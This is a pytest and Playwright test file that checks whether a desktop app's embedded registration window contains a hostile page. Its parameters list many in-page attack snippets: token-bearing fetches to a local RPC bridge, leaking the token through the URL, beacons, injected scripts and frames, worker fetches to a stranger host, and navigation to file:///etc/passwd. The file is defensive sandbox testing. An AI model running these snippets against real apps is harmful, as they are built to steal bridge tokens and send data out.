"""A hostile page in the real window gets nothing: attacked as a table, and watched from what it tries to reach."""

from __future__ import annotations

import contextlib
import queue
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, Playwright, sync_playwright

from tests.desktop import conftest
from tests.desktop.conftest import Program
from tests.ui.desktop_session import DesktopSession, eventually

pytestmark = pytest.mark.ui

HARNESS = Path(__file__).with_name("remote_harness.py")


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as probe:
        return int(probe.getsockname()[1])


@dataclass
class Remote:
    """The program with its main window, and the addresses of everything the page might want to reach."""

    program: Program
    playwright: Playwright
    port: int
    at: dict[str, Any]

    @property
    def title(self) -> str:
        return f"用户注册 – {self.at['service'].removeprefix('http://')}"

    def open(self, path: str = "/registration/page") -> None:
        self.program.order("open", url=self.at["service"] + path)
        self.program.event("opened")

    def page(self) -> Page:
        """The page in the window that is open."""
        # A new connection each time: another window is another browser context.
        browser = self.playwright.chromium.connect_over_cdp(f"http://127.0.0.1:{self.port}", no_defaults=True)
        return eventually(
            lambda: next((p for c in browser.contexts for p in c.pages if p.url.startswith(self.at["service"])), None)
        )

    def seen(self, seconds: float = 0.25) -> list[dict[str, Any]]:
        """Everything that was told until nothing came for a while."""
        events = []
        with contextlib.suppress(queue.Empty):
            while True:
                events.append(self.program._seen.get(timeout=seconds))
        return events


@pytest.fixture(scope="module")
def remote(desktop_session: DesktopSession, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Remote]:
    port = free_port()
    root = str(Path(__file__).parents[2])
    session = DesktopSession({**desktop_session.environment, "PYTHONPATH": root})
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(conftest, "HARNESS", HARNESS)
        program = Program(session, tmp_path_factory.mktemp("home"), cdp=port)
    with sync_playwright() as playwright:
        yield Remote(program, playwright, port, program.event("ready", 30))
    program.end()


@pytest.fixture(scope="module")
def opened(remote: Remote) -> Page:
    """The window, opened once."""
    remote.open()
    remote.program.event("shown")
    return remote.page()


@pytest.fixture
def page(opened: Page, remote: Remote) -> Page:
    """The hostile page, fresh in the open window."""
    opened.goto(remote.at["service"] + "/registration/page")
    remote.seen(0.05)
    return opened


def reached(remote: Remote, *servers: str) -> list[str]:
    return [
        f"{e['server']} {e.get('path', '')}"
        for e in remote.seen()
        if e["event"] == "request" and e["server"] in servers
    ]


ATTEMPT = """async ([code, at]) => {
    const {service, stranger, bridge, token} = at;
    const press = (action) => new Promise((done) => {
        document.querySelector("#press").onclick = () => done(action());
    });
    try { return String(await eval(code)); } catch (error) { return error.name; }
}"""
WAIT = "new Promise((done) => setTimeout(() => done('waited'), 150))"


@pytest.mark.parametrize(
    "code",
    [
        pytest.param("fetch(bridge + '/rpc', {method: 'POST', body: '{}'})", id="bridge without its token"),
        pytest.param(
            "fetch(bridge + '/rpc', {method: 'POST', headers: {Authorization: 'Bearer ' + token,"
            " 'Content-Type': 'application/json'}, body: '{\"id\":1,\"method\":\"secret\",\"params\":{}}'})",
            id="bridge with its token",
        ),
        pytest.param("fetch(bridge + '/rpc', {method: 'POST', mode: 'no-cors', body: 'x'})", id="bridge, blind"),
        pytest.param("fetch(bridge + '/', {mode: 'no-cors'})", id="bridge's page"),
        pytest.param("new EventSource(bridge + '/events'); " + WAIT, id="bridge's events"),
        pytest.param("new WebSocket('ws' + bridge.slice(4)); " + WAIT, id="socket to the bridge"),
        pytest.param("new Image().src = bridge + '/x.png'; " + WAIT, id="picture from the bridge"),
        pytest.param("location = bridge + '/#t=' + token; " + WAIT, id="to the bridge"),
        pytest.param("fetch(stranger + '/registration/page')", id="stranger"),
        pytest.param("fetch('http://localhost:' + service.split(':')[2] + '/registration/page')", id="other name"),
        pytest.param("navigator.sendBeacon(stranger + '/x', 'x'); " + WAIT, id="beacon"),
        pytest.param("document.head.append(Object.assign(document.createElement('script'), {src: stranger + '/x.js'})); " + WAIT, id="script"),
        pytest.param("document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: stranger + '/x.css'})); " + WAIT, id="stylesheet"),
        pytest.param("document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: stranger + '/x'})); " + WAIT, id="prefetch"),
        pytest.param("document.body.append(Object.assign(document.createElement('iframe'), {src: stranger + '/x'})); " + WAIT, id="frame"),
        pytest.param("document.body.append(Object.assign(document.createElement('object'), {data: stranger + '/x'})); " + WAIT, id="object"),
        pytest.param("document.body.append(Object.assign(document.createElement('video'), {src: stranger + '/x'})); " + WAIT, id="video"),
        pytest.param("form.action = stranger + '/x'; form.submit(); " + WAIT, id="form elsewhere"),
        pytest.param("form.action = bridge + '/rpc'; form.enctype = 'text/plain'; form.submit(); " + WAIT, id="form to the bridge"),
        pytest.param("form.target = '_blank'; form.action = stranger + '/x'; form.submit(); " + WAIT, id="form in a new window"),
        pytest.param("document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0;url=' + stranger + '/x'})); " + WAIT, id="meta refresh"),
        pytest.param("location = '/registration/away?' + stranger + '/x'; " + WAIT, id="redirect elsewhere"),
        pytest.param("new Image().src = '/registration/away?' + stranger + '/x'; " + WAIT, id="redirected picture"),
        pytest.param("new Worker(URL.createObjectURL(new Blob([`fetch('${stranger}/x')`]))); " + WAIT, id="worker"),
        pytest.param("new SharedWorker(URL.createObjectURL(new Blob([`fetch('${stranger}/x')`]))); " + WAIT, id="shared worker"),
        pytest.param("document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: `<img src=${stranger}/x>`})); " + WAIT, id="frame with a text of its own"),
        pytest.param("{const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch(stranger + '/x')}; " + WAIT, id="empty frame's fetch"),
    ],
)  # fmt: skip
def test_nobody_else_is_reached(code: str, page: Page, remote: Remote) -> None:
    page.evaluate(ATTEMPT, [code, remote.at])
    assert reached(remote, "bridge", "stranger") == []
    assert page.evaluate("document.querySelector('h1').textContent") == "page"


@pytest.mark.parametrize(
    "target",
    [
        "file:///etc/passwd", "data:text/html,<h1>x</h1>", "chrome://gpu", "view-source:{service}/registration/page",
        "javascript:window.moved = true", "mailto:a@b.example", "weird-scheme:foo", "/outside",
        "/registration/../outside", "/registration/%2e%2e/outside", "/registration/away?/outside", "//registration/",
        "filesystem:{service}/temporary/x", "/registration/file.bin", "/registration/doc.pdf",
    ],
)  # fmt: skip
@pytest.mark.parametrize("how", ["location", "link", "history"])
def test_the_window_stays(how: str, target: str, page: Page, remote: Remote, desktop_session: DesktopSession) -> None:
    page.evaluate(
        """([how, target]) => {
            if (how === "link") Object.assign(document.createElement("a"), {href: target}).click();
            else if (how === "location") location.href = target;
            else { history.pushState({}, "", "/registration/second"); location.replace(target); }
        }""",
        [how, target.format(service=remote.at["service"])],
    )
    assert [one for one in reached(remote, "service") if "outside" in one and "away?" not in one] == []
    assert page.evaluate("document.querySelector('h1').textContent") == "page"
    assert len(desktop_session.run("wmctrl", "-l").splitlines()) == 3  # main window, this window, panel


@pytest.mark.parametrize(
    ("code", "outcome"),
    [
        pytest.param("typeof window.pywebview", "undefined", id="pywebview"),
        pytest.param("typeof window.qt", "undefined", id="Qt's channel"),
        pytest.param("typeof RTCPeerConnection + typeof WebTransport", "undefinedundefined", id="connections of other kinds"),
        pytest.param("window.opener", "null", id="opener"),
        pytest.param("window.parent === window && window.top === window", "true", id="no frame around it"),
        pytest.param("navigator.serviceWorker.register('/registration/sw.js')", "TypeError", id="service worker"),
        pytest.param("alert('x')", "undefined", id="alert"),
        pytest.param("confirm('x')", "false", id="confirm"),
        pytest.param("prompt('x')", "null", id="prompt"),
        pytest.param("print()", "undefined", id="print"),
        pytest.param("Notification.requestPermission()", "denied", id="notifications"),
        pytest.param("navigator.clipboard.readText()", "NotAllowedError", id="reading the clipboard"),
        pytest.param("document.execCommand('paste')", "false", id="pasting"),
        pytest.param("document.body.requestFullscreen()", "TypeError", id="full screen"),
        pytest.param("new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, n)).catch(e => e.code)", "1", id="place"),
        pytest.param("navigator.mediaDevices.getDisplayMedia()", "AbortError|NotAllowedError", id="screen"),
        pytest.param("showOpenFilePicker()", "AbortError|SecurityError", id="files"),
        pytest.param("document.createElement('canvas').getContext('webgl')", "null", id="WebGL"),
        pytest.param("navigator.plugins.length", "0", id="plugins"),
        pytest.param("(localStorage.x = 1, sessionStorage.x = 2)", "2", id="storage of its own"),
        pytest.param("document.fonts.size", "0", id="nothing else"),
    ],
)  # fmt: skip
def test_what_a_page_gets(code: str, outcome: str, page: Page, remote: Remote, desktop_session: DesktopSession) -> None:
    got = page.evaluate(ATTEMPT, [code, remote.at])
    assert any(got.startswith(one) for one in outcome.split("|")), got
    assert len(desktop_session.run("wmctrl", "-l").splitlines()) == 3
